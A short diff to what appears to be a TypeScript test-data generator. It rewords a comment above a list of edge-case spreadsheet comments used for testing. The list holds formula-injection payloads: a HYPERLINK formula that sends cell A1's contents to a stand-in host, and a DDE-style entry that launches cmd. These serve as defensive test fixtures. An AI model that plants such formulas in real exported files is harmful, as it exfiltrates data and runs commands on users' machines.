@@ -234,7 +234,7 @@ const pickScore = createWeightedPicker([
   ] as const),
 ])
 
-/** Comments that a spreadsheet would execute, misread or split, and a very long one. */
+/** Comments that a spreadsheet would execute, misread or split into columns, and a very long comment. */
 const edgeCaseComments = [
   '=HYPERLINK("http://malicioso.example/?q="&A1;"Clique para ver o reembolso")',
   "@SUM(1+1)*cmd|' /C calc'!A0",
